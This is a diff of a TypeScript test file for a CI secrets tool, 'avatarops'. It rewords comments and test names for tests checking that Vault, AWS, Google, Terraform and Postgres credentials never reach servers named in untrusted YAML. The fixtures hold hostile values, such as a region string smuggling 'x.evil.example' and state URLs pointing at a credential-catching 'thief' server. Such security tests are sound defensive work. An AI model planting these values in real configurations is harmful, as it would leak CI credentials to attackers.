@@ -1,5 +1,5 @@
 // @module-tag ci
-/** Tests YAML that names an address where its author would receive the runner's credentials. */
+/** Tests YAML files that name their author's server, which would receive the runner's credentials. */
 import { describe, expect, test, vi } from "vitest";
 import { matchText, startProject } from "../cli/hosting.js";
 import { keyringSource } from "../secrets/sources/keyring.js";
@@ -20,7 +20,10 @@ interface Try {
 
 const pinned = { AVATAROPS_PIN: "1" };
 
-/** Tries the files by default, pinned, pinned with the host allowed, untrusted and in sync. */
+/**
+ * Runs the files with default settings, with pinned credentials, with the host also allowed, as an untrusted
+ * change, and in sync.
+ */
 async function tryEverywhere({ files, environment, learns, hasNoLogin }: Try): Promise<void> {
   const refusal = matchText("to AVATAROPS_ALLOW_HOSTS");
   const runner = { PATH: process.env.PATH ?? "", HOME: "/nowhere", ...environment };
@@ -67,7 +70,7 @@ const source = (text: (url: string) => string) => (url: string) => ({
 });
 
 describe("avatarops on a runner", () => {
-  test("sends no Vault token or login to a server that a file names", async () => {
+  test("sends no Vault token or login to a server named in a file", async () => {
     await tryEverywhere({
       files: source((url) => `!vault { path: kv/llm, field: key, address: "${url}" }`),
       environment: { VAULT_TOKEN: canary },
@@ -80,7 +83,7 @@ describe("avatarops on a runner", () => {
     });
   });
 
-  test("requests no job JWT for an audience that a file names", async () => {
+  test("requests no job JWT for an audience named in a file", async () => {
     const github = await startThief();
     const vault = "!vault { path: kv/llm, field: key }";
     const project = await startProject({
@@ -133,7 +136,7 @@ describe("avatarops on a runner", () => {
     );
   });
 
-  test("sends no Google login to an endpoint that a file names", () =>
+  test("sends no Google login to an endpoint named in a file", () =>
     tryEverywhere({
       files: source((url) => `!google-secret-manager { secret: projects/p/secrets/llm, endpoint: "${url}" }`),
       environment: {},
@@ -149,7 +152,7 @@ describe("avatarops on a runner", () => {
       hasNoLogin: true,
     }));
 
-  test("sends no AWS credentials to a host that a file hides in a region", async () => {
+  test("sends no AWS credentials to a host hidden in a region name", async () => {
     const source = '!aws-secrets-manager { id: llm, region: "x.evil.example/#" }';
     const hostile = await startProject({ files: { "avatarops.yaml": formatManifest(source) } });
     const planned = await hostile.avatarops("plan");
@@ -159,7 +162,7 @@ describe("avatarops on a runner", () => {
     expect(joinStreams(await project.avatarops("plan"))).toEqual(matchText("has an invalid region"));
   });
 
-  test("sends no TF_HTTP_PASSWORD to a store that a new state names", async () => {
+  test("sends no TF_HTTP_PASSWORD to a state server named in a file", async () => {
     const files = (url: string) => ({ "avatarops.yaml": `state: ${url}/state\ncontexts: {}\n` });
     const environment = { TF_HTTP_USERNAME: "ci", TF_HTTP_PASSWORD: canary };
     const learns = Buffer.from(`ci:${canary}`).toString("base64");
@@ -174,7 +177,7 @@ describe("avatarops on a runner", () => {
     expect(thief.heard()).toBe("");
   });
 
-  test("sends no AWS credentials to an endpoint that a new state names", async () => {
+  test("sends no AWS credentials to a state endpoint named in a file", async () => {
     const state = (url: string) => `state: s3://bucket/state.json?endpoint=${url}\ncontexts: {}\n`;
     const thief = await startThief();
     const project = await startProject({ files: { "avatarops.yaml": state(thief.url) } });
@@ -183,7 +186,7 @@ describe("avatarops on a runner", () => {
     expect(thief.heard()).toBe("");
   });
 
-  test("sends PGPASSWORD only over verified TLS and to no server that a new state names", async () => {
+  test("sends PGPASSWORD only over verified TLS, and to no state server named in a file", async () => {
     const files = (query: string, at = "db.evil.example") => ({
       "avatarops.yaml": `state: postgres://${at}/ops${query}\ncontexts: {}\n`,
     });
